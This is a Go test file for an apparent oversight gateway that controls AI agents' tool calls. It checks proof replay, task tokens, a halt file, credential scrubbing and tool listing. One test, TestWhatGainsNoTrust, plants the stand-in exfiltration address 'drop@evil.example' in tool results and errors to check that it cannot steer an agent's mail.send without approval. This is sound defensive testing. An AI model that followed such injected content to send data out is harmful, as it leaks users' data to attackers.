package gate_test

import (
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"crypto/sha256"
	"encoding/base64"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/writgate/writ"
	"github.com/writgate/writ/broker"
	"github.com/writgate/writ/gate"
	"github.com/writgate/writ/identity"
	"github.com/writgate/writ/ledger"
	"github.com/writgate/writ/mcp"
	"github.com/writgate/writ/registry"
	"github.com/writgate/writ/upstream"
	"github.com/writgate/writ/writtest"
)

// A bearer is an agent that proves its key by DPoP.
type bearer struct {
	t     *testing.T
	w     *writtest.World
	key   ed25519.PrivateKey
	print writ.Thumbprint
	token string
}

const address = "https://writ.test/mcp"

// accept makes a gateway take the tokens of bearers.
func accept(t *testing.T, w *writtest.World) *identity.Tokens {
	t.Helper()
	tokens, err := identity.NewTokens("https://issuer.test", ed25519.NewKeyFromSeed(make([]byte, ed25519.SeedSize)))
	if err != nil {
		t.Fatal(err)
	}
	v := w.Gate.Identity
	v.Tokens, v.Issuer, v.Audience = tokens.Key, "https://issuer.test", address
	return tokens
}

func newBearer(t *testing.T, w *writtest.World) *bearer {
	t.Helper()
	pub, key, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	print, err := identity.Thumbprint(pub)
	if err != nil {
		t.Fatal(err)
	}
	return &bearer{t: t, w: w, key: key, print: print}
}

// open opens a task for the bearer's key, and gives it a token that names it.
func (b *bearer) open(task writ.Task) writ.Task {
	b.t.Helper()
	task.Agent, task.Key, task.Environment, task.User = writtest.AgentID("billing"), b.print, writtest.Environment, "lena"
	task.Purpose.Origin = writ.OriginUser
	held, err := b.w.Gate.Tasks.Open(b.t.Context(), task)
	if err != nil {
		b.t.Fatal(err)
	}
	now := b.w.Clock.Now()
	b.token, _, err = accept(b.t, b.w).Issue(identity.Binding{
		Agent: task.Agent, Key: b.print, Audience: address, Task: held.Task.ID, User: "lena", Until: now.Add(time.Hour),
	}, now)
	if err != nil {
		b.t.Fatal(err)
	}
	return held.Task
}

// evidence is the token, with a new proof over the body or, if that is nil,
// over none.
func (b *bearer) evidence(body []byte) identity.Evidence {
	b64 := base64.RawURLEncoding.EncodeToString
	claims := fmt.Sprintf(`"htm":"POST","htu":%q,"iat":%d,"jti":%q`, address, b.w.Clock.Now().Unix(), rand.Text())
	ath := sha256.Sum256([]byte(b.token))
	claims = fmt.Sprintf(`"ath":%q,`, b64(ath[:])) + claims
	if body != nil {
		sum := sha256.Sum256(body)
		claims += fmt.Sprintf(`,"body":%q`, b64(sum[:]))
	}
	head := fmt.Sprintf(`{"alg":"EdDSA","jwk":{"crv":"Ed25519","kty":"OKP","x":%q},"typ":"dpop+jwt"}`, b64(b.key.Public().(ed25519.PublicKey)))
	signed := b64([]byte(head)) + "." + b64([]byte("{"+claims+"}"))
	return identity.Evidence{
		Authorization: []string{"DPoP " + b.token}, Proof: []string{signed + "." + b64(ed25519.Sign(b.key, []byte(signed)))},
		Method: "POST", URL: address, Body: body,
	}
}

func (b *bearer) request(e identity.Evidence, tool writ.ToolName, args string) *gate.Request {
	upstream, name, _ := strings.Cut(string(tool), ".")
	return &gate.Request{
		Call: writ.NewID[writ.CallID](b.w.Clock.Now()), Evidence: e,
		Action: writ.Action{Kind: writ.KindTool, Upstream: upstream, Name: name, Arguments: writ.JSON(args)},
	}
}

var get = writtest.Tool{Name: "desk.get", Tier: writ.ReadOnly, Result: writ.Label{Integrity: writ.Trusted, Class: writ.Internal}}

// TestH05ProofIsUsedUpWhereItIsRecorded shows one proof to two gateways that
// do not share a memory: with a call that is permitted, and with one that is
// not. The second is refused, and that is on record.
func TestH05ProofIsUsedUpWhereItIsRecorded(t *testing.T) {
	for _, tool := range []writ.ToolName{"desk.get", "desk.none"} {
		w := writtest.New(t, writtest.Setup{Gateway: "one", Tools: []writtest.Tool{get}})
		other := w.Beside(t, "two")
		accept(t, other)
		b := newBearer(t, w)
		b.open(everything())
		e := b.evidence([]byte("{}"))
		if _, err := w.Gate.Do(t.Context(), b.request(e, tool, `{}`)); err != nil && writ.AsDenial(err).Code != writ.UnknownTool {
			t.Fatal(err)
		}
		r := b.request(e, "desk.get", `{}`)
		if _, err := other.Gate.Do(t.Context(), r); writ.AsDenial(err).Code != writ.ProofReplayed || len(other.Tools.Seen()) != 0 {
			t.Errorf("after %s, the same proof elsewhere: %v", tool, err)
		}
		records, err := w.Ledger.Records(t.Context(), ledger.Filter{Call: r.Call})
		if err != nil || len(records) != 1 || records[0].Leaf.Code != writ.ProofReplayed {
			t.Errorf("after %s, on record is %v, %v", tool, records, err)
		}
	}
}

// TestTokenOfATaskThatIsOver shows the token of a task when its key has
// another.
func TestTokenOfATaskThatIsOver(t *testing.T) {
	w := writtest.New(t, writtest.Setup{Tools: []writtest.Tool{get}})
	b := newBearer(t, w)
	first := b.open(everything())
	old := b.token
	if _, err := w.Gate.EndTask(t.Context(), first.ID, "over", "omar"); err != nil {
		t.Fatal(err)
	}
	b.open(everything())
	if _, err := w.Gate.Do(t.Context(), b.request(b.evidence([]byte("{}")), "desk.get", `{}`)); err != nil {
		t.Error(err)
	}
	b.token = old
	before := len(w.Tools.Seen())
	if _, err := w.Gate.Do(t.Context(), b.request(b.evidence([]byte("{}")), "desk.get", `{}`)); writ.AsDenial(err).Code != writ.OutsideTask || len(w.Tools.Seen()) != before {
		t.Errorf("the old token in the new task: %v", err)
	}
	if _, _, err := w.Gate.List(t.Context(), b.request(b.evidence([]byte("{}")), "", "")); writ.AsDenial(err).Code != writ.OutsideTask {
		t.Errorf("the old token lists the new task: %v", err)
	}
}

// TestPrivilegedNeedsItsBodyProven makes calls with proofs that do not cover
// the body.
func TestPrivilegedNeedsItsBodyProven(t *testing.T) {
	w := writtest.New(t, writtest.Setup{Tools: []writtest.Tool{get, pay}})
	b := newBearer(t, w)
	b.open(everything())
	for _, x := range []struct {
		tool writ.ToolName
		args string
		body []byte
		want writ.Code
	}{
		{"desk.get", `{}`, nil, ""},
		{"bank.pay", `{"amount":7}`, nil, writ.ProofMismatch},
		{"bank.pay", `{"amount":7}`, []byte("{}"), writ.ApprovalRequired},
	} {
		_, err := w.Gate.Do(t.Context(), b.request(b.evidence(x.body), x.tool, x.args))
		if x.want == "" && err != nil || x.want != "" && writ.AsDenial(err).Code != x.want {
			t.Errorf("%s, body proven %v: %v, want %q", x.tool, x.body != nil, err, x.want)
		}
	}
}

// TestF20PanicWhileDeciding takes away what a decision needs.
func TestF20PanicWhileDeciding(t *testing.T) {
	w := writtest.New(t, writtest.Setup{Tools: []writtest.Tool{get}})
	a := w.Agent("billing")
	a.Open(everything())
	w.Gate.Tasks = nil
	r := a.Request("desk.get", `{}`)
	if _, err := w.Gate.Do(t.Context(), r); writ.AsDenial(err).Code != writ.InternalError {
		t.Errorf("Do = %v", err)
	}
	if types := onRecord(t, w, r.Call); len(types) != 1 || types[0] != ledger.TypeDecision {
		t.Errorf("on record is %v", types)
	}
}

// TestF20PanicWhileCommitting does so after the decision.
func TestF20PanicWhileCommitting(t *testing.T) {
	w := writtest.New(t, writtest.Setup{Tools: []writtest.Tool{get}})
	a := w.Agent("billing")
	a.Open(everything())
	r := a.Request("desk.get", `{}`)
	p, err := w.Gate.Decide(t.Context(), r)
	if err != nil {
		t.Fatal(err)
	}
	w.Gate.Issuer = nil
	if _, err := w.Gate.Carry(t.Context(), p); writ.AsDenial(err).Code != writ.InternalError || len(w.Tools.Seen()) != 0 {
		t.Errorf("Carry = %v", err)
	}
	if types := onRecord(t, w, r.Call); len(types) != 1 || types[0] != ledger.TypeDecision {
		t.Errorf("on record is %v", types)
	}
}

// TestHaltFile stops everything with a file, at every moment before a tool is
// called.
func TestHaltFile(t *testing.T) {
	dir := t.TempDir()
	tool := get
	tool.Credential = "vault"
	var store *hooked
	w := writtest.New(t, writtest.Setup{
		Tools: []writtest.Tool{tool},
		Store: func(s ledger.Store) ledger.Store { store = &hooked{Store: s}; return store },
	})
	a := w.Agent("billing")
	a.Open(everything())
	file := filepath.Join(dir, "halt")
	halt := func() {
		if err := os.WriteFile(file, nil, 0o600); err != nil {
			t.Error(err)
		}
	}
	w.Gate.HaltFile = file
	if _, err := a.Call("desk.get", `{}`); err != nil {
		t.Fatalf("without the file: %v", err)
	}
	for name, arm := range map[string]func(){
		"before":           halt,
		"after the intent": func() { store.after = func() { store.after = nil; halt() } },
		"while it mints":   func() { w.Vault.FailMint = func() error { halt(); return nil } },
	} {
		calls, minted := len(w.Tools.Seen()), len(w.Vault.Log())
		arm()
		r := a.Request("desk.get", `{}`)
		if _, err := w.Gate.Do(t.Context(), r); writ.AsDenial(err).Code != writ.Halted || len(w.Tools.Seen()) != calls {
			t.Errorf("%s: %v, the tool was called %d times", name, err, len(w.Tools.Seen())-calls)
		}
		if types := onRecord(t, w, r.Call); (types[0] == ledger.TypeDecision) != (name == "before") {
			t.Errorf("%s: on record is %v", name, types)
		}
		if n := len(w.Vault.Log()); name != "while it mints" && slices.Contains(w.Vault.Log()[minted:n], "mint") {
			t.Errorf("%s: a credential was minted", name)
		}
		w.Vault.FailMint = nil
		if err := os.Remove(file); err != nil {
			t.Fatal(err)
		}
	}
	w.Gate.HaltFile = filepath.Join(file, "halt") // below a file there is nothing, and nobody knows
	halt()
	if _, err := a.Call("desk.get", `{}`); writ.AsDenial(err).Code != writ.Halted {
		t.Errorf("a file that cannot be told: %v", err)
	}
}

// A hooked store calls after, if it is set, when an intent is durable.
type hooked struct {
	ledger.Store
	after func()
}

func (h *hooked) Update(ctx context.Context, fn func(ledger.View) (*ledger.Batch, error)) error {
	intent := false
	err := h.Store.Update(ctx, func(v ledger.View) (*ledger.Batch, error) {
		b, err := fn(v)
		intent = b != nil && slices.ContainsFunc(b.Records, func(r ledger.Record) bool { return r.Leaf.Type == ledger.TypeIntent })
		return b, err
	})
	if err == nil && intent && h.after != nil {
		h.after()
	}
	return err
}

// TestHungUpBeforeItIsMade hangs up on a read while its credential is minted.
func TestHungUpBeforeItIsMade(t *testing.T) {
	tool := get
	tool.Credential = "vault"
	w := writtest.New(t, writtest.Setup{Tools: []writtest.Tool{tool}})
	a := w.Agent("billing")
	a.Open(everything())
	ctx, hangUp := context.WithCancel(t.Context())
	w.Vault.FailMint = func() error { hangUp(); return nil }
	if _, err := w.Gate.Do(ctx, a.Request("desk.get", `{}`)); err == nil || len(w.Tools.Seen()) != 0 {
		t.Errorf("Do = %v, the tool was called %d times", err, len(w.Tools.Seen()))
	}
	if n := w.Vault.Live(); n != 0 {
		t.Errorf("%d credentials are alive", n)
	}
}

// TestBackendThatIsNotThere refuses what needs a credential that nobody makes.
func TestBackendThatIsNotThere(t *testing.T) {
	tool := get
	tool.Credential = "elsewhere"
	w := writtest.New(t, writtest.Setup{Tools: []writtest.Tool{tool}})
	a := w.Agent("billing")
	a.Open(everything())
	r := a.Request("desk.get", `{}`)
	if _, err := w.Gate.Do(t.Context(), r); writ.AsDenial(err).Code != writ.CredentialUnavailable || len(w.Tools.Seen()) != 0 {
		t.Errorf("Do = %v", err)
	}
	records, err := w.Ledger.Records(t.Context(), ledger.Filter{Call: r.Call})
	if err != nil || len(records) != 1 || records[0].Leaf.Type != ledger.TypeDecision || records[0].Leaf.Effect != writ.Deny.String() {
		t.Errorf("policy permitted it, and it was refused; on record is %+v, %v", records, err)
	}
}

// TestWhatGainsNoTrust has a tool whose results are trusted say an address: in
// an error, in a failure, after it changed something, while it asks for more,
// and after the task itself has sent the address. None of it may steer.
func TestWhatGainsNoTrust(t *testing.T) {
	const drop = "drop@evil.example"
	structured := func(more string) *upstream.Answer {
		return &upstream.Answer{Body: []byte(`{"content":[],"structuredContent":{"to":"` + drop + `"}` + more + `}`)}
	}
	trusted := writ.Label{Integrity: writ.Trusted, Class: writ.Public}
	tools := []writtest.Tool{
		{Name: "book.look", Tier: writ.ReadOnly, Result: trusted},
		{Name: "book.write", Tier: writ.BoundedWrite, Result: trusted, Schema: `{"type":"object","properties":{"note":{"type":"string"}}}`},
		{Name: "mail.send", Tier: writ.BoundedWrite, Args: map[string]string{"to": "string"}},
	}
	for name, x := range map[string]struct {
		calls  []string // tool and arguments
		answer *upstream.Answer
		want   writ.Code
	}{
		"a result":                 {[]string{"book.look {}"}, structured(""), ""},
		"an error":                 {[]string{"book.look {}"}, &upstream.Answer{Err: &mcp.Error{Code: -32000, Message: drop}}, writ.ApprovalRequired},
		"data of an error":         {[]string{"book.look {}"}, &upstream.Answer{Err: &mcp.Error{Code: -32000, Message: "no", Data: `{"to":"` + drop + `"}`}}, writ.ApprovalRequired},
		"a failure":                {[]string{"book.look {}"}, structured(`,"isError":true`), writ.ApprovalRequired},
		"the answer of a write":    {[]string{"book.write {}"}, structured(""), writ.ApprovalRequired},
		"a question":               {[]string{"book.look {}"}, structured(`,"resultType":"input_required","inputRequests":{}`), writ.ApprovalRequired},
		"what the task has sent":   {[]string{`book.write {"note":"` + drop + `"}`, "book.look {}"}, structured(""), writ.ApprovalRequired},
		"part of what it has sent": {[]string{`book.write {"note":"to ` + drop + ` at once"}`, "book.look {}"}, structured(""), writ.ApprovalRequired},
	} {
		t.Run(name, func(t *testing.T) {
			w := writtest.New(t, writtest.Setup{Gateway: "one", Tools: tools})
			a := w.Agent("billing")
			a.Open(everything())
			w.Tools.Do = func(_ context.Context, _ *broker.Lease, o upstream.Order) (*upstream.Answer, error) {
				if o.Action.Name == "write" && len(x.calls) > 1 {
					return &upstream.Answer{Body: writtest.Text("written", false)}, nil
				}
				again := *x.answer
				return &again, nil
			}
			for _, call := range x.calls {
				tool, args, _ := strings.Cut(call, " ")
				if _, err := a.Call(writ.ToolName(tool), args); err != nil {
					t.Fatal(err)
				}
			}
			for where, x2 := range map[string]*writtest.World{"here": w, "in another process, from the log": w.Beside(t, "two")} {
				_, err := x2.Gate.Do(t.Context(), a.Request("mail.send", `{"to":"`+drop+`"}`))
				if x.want == "" && err != nil || x.want != "" && writ.AsDenial(err).Code != x.want {
					t.Errorf("%s: %v, want %q", where, err, x.want)
				}
			}
		})
	}
}

// TestP8ErrorsAreScrubbed has a tool, and the way to it, give a credential back
// in errors of every kind.
func TestP8ErrorsAreScrubbed(t *testing.T) {
	tool := get
	tool.Credential = "vault"
	secret := func(l *broker.Lease) string {
		h := map[string][]string{}
		if err := l.Apply(h); err != nil {
			return err.Error()
		}
		return fmt.Sprint(h)
	}
	for name, do := range map[string]func(*broker.Lease) (*upstream.Answer, error){
		"nothing was sent": func(l *broker.Lease) (*upstream.Answer, error) {
			return nil, fmt.Errorf("%w: %s", upstream.ErrNotSent, secret(l))
		},
		"too large": func(l *broker.Lease) (*upstream.Answer, error) {
			return nil, fmt.Errorf("%w: %s", upstream.ErrTooLarge, secret(l))
		},
		"anything else": func(l *broker.Lease) (*upstream.Answer, error) { return nil, fmt.Errorf("%s", secret(l)) },
		"an error's words": func(l *broker.Lease) (*upstream.Answer, error) {
			return &upstream.Answer{Err: &mcp.Error{Code: -1, Message: secret(l)}}, nil
		},
		"an error's data": func(l *broker.Lease) (*upstream.Answer, error) {
			return &upstream.Answer{Err: &mcp.Error{Code: -1, Data: writ.JSON(fmt.Sprintf("%q", secret(l)))}}, nil
		},
		"a result's member": func(l *broker.Lease) (*upstream.Answer, error) {
			return &upstream.Answer{Body: fmt.Appendf(nil, `{"content":[],"x":%q}`, secret(l))}, nil
		},
	} {
		t.Run(name, func(t *testing.T) {
			w := writtest.New(t, writtest.Setup{Tools: []writtest.Tool{tool}})
			a := w.Agent("billing")
			a.Open(everything())
			w.Tools.Do = func(_ context.Context, l *broker.Lease, _ upstream.Order) (*upstream.Answer, error) { return do(l) }
			res, err := a.Call("desk.get", `{}`)
			if res != nil && res.Err != nil {
				err = fmt.Errorf("%s %s", res.Err.Message, res.Err.Data)
			}
			nowhere(t, w, res, err)
		})
	}
}

// TestEndingLetsGoOfEverything ends a task, as somebody who has hung up: its
// shared credential, its processes and what is remembered of it.
func TestEndingLetsGoOfEverything(t *testing.T) {
	tool := get
	tool.Credential = "vault"
	w := writtest.New(t, writtest.Setup{Tools: []writtest.Tool{tool}})
	shared := w.Gate.Broker.Backends["vault"]
	shared.Share = true
	w.Gate.Broker.Backends["vault"] = shared
	closed := &closing{Upstream: w.Tools}
	w.Gate.Upstream = closed
	a := w.Agent("billing")
	a.Open(everything())
	if _, err := a.Call("desk.get", `{}`); err != nil {
		t.Fatal(err)
	}
	if w.Vault.Live() != 1 || !w.Gate.Flow.Knows(a.Task.ID) {
		t.Fatal("the task holds nothing")
	}
	ctx, hungUp := context.WithCancel(t.Context())
	hungUp()
	if _, err := w.Gate.EndTask(ctx, a.Task.ID, "over", "omar"); err != nil {
		t.Fatal(err)
	}
	if n := w.Vault.Live(); n != 0 {
		t.Errorf("%d credentials are alive", n)
	}
	if !slices.Equal(closed.tasks, []writ.TaskID{a.Task.ID}) {
		t.Errorf("closed are %v", closed.tasks)
	}
	if _, err := a.Call("desk.get", `{}`); writ.AsDenial(err).Code != writ.OutsideTask {
		t.Error(err)
	}
	if w.Gate.Flow.Knows(a.Task.ID) || len(w.Gate.Flow.Tasks()) != 0 {
		t.Error("what a task has read is remembered after its end")
	}
}

type closing struct {
	gate.Upstream
	tasks []writ.TaskID
}

func (c *closing) CloseTask(id writ.TaskID) { c.tasks = append(c.tasks, id) }

// TestListIsWhatMayBeUsed lists tools for an agent with a highest tier and a
// grant, and for a key that nobody opened a task for.
func TestListIsWhatMayBeUsed(t *testing.T) {
	tools := []writtest.Tool{
		get, pay, {Name: "mail.send", Tier: writ.BoundedWrite}, {Name: "web.get", Tier: writ.ReadOnly, Fetch: true}, {Name: "other.get", Tier: writ.ReadOnly},
	}
	w := writtest.New(t, writtest.Setup{
		Registry: registry.Config{Agents: []registry.Agent{
			{ID: writtest.AgentID("billing"), Owner: "maya", Environment: writtest.Environment, HighestTier: writ.BoundedWrite},
		}},
		Tools: tools,
	})
	w.Change("other.get", `{"type":"object","title":"changed"}`)
	list := func(a *writtest.Agent) string {
		entries, _, err := w.Gate.List(t.Context(), a.Request("", ""))
		if err != nil {
			return string(writ.AsDenial(err).Code)
		}
		var names []string
		for _, e := range entries {
			names = append(names, string(e.Tool.Name))
		}
		return strings.Join(names, " ")
	}
	attended, granted, alone := w.Agent("billing"), w.Agent("billing"), w.Agent("billing")
	attended.Open(everything())
	granted.Open(writ.Task{Grant: writ.Grant{{Tool: "mail.*"}, {Tool: "bank.*"}}, Expires: w.Clock.Now().Add(10 * time.Minute).UnixMilli()})
	for _, x := range []struct {
		a    *writtest.Agent
		want string
	}{{attended, "desk.get mail.send web.get"}, {granted, "mail.send"}, {alone, "desk.get"}} {
		if got := list(x.a); got != x.want {
			t.Errorf("listed are %q, want %q", got, x.want)
		}
	}
	if _, err := w.Gate.EndTask(t.Context(), attended.Task.ID, "over", "omar"); err != nil {
		t.Fatal(err)
	}
	w.Clock.Advance(11 * time.Minute)
	for _, a := range []*writtest.Agent{attended, granted} {
		if got := list(a); got != string(writ.OutsideTask) {
			t.Errorf("a task that is over lists %q", got)
		}
	}
}
